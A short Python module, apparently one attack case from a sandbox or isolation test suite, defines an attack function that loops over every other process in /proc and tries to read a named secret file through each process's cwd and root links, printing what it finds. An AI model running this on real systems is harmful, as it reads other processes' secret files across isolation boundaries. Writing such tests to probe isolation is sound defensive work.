"""Reads files through the root and the working folder of other processes, in `/proc`."""

import os


def attack(facts: dict[str, str]) -> None:
    name = os.path.basename(facts["secret_file"])
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            for way in (f"cwd/{name}", "root" + facts["secret_file"]):
                try:
                    print(open(f"/proc/{pid}/{way}").read())
                except OSError:
                    continue
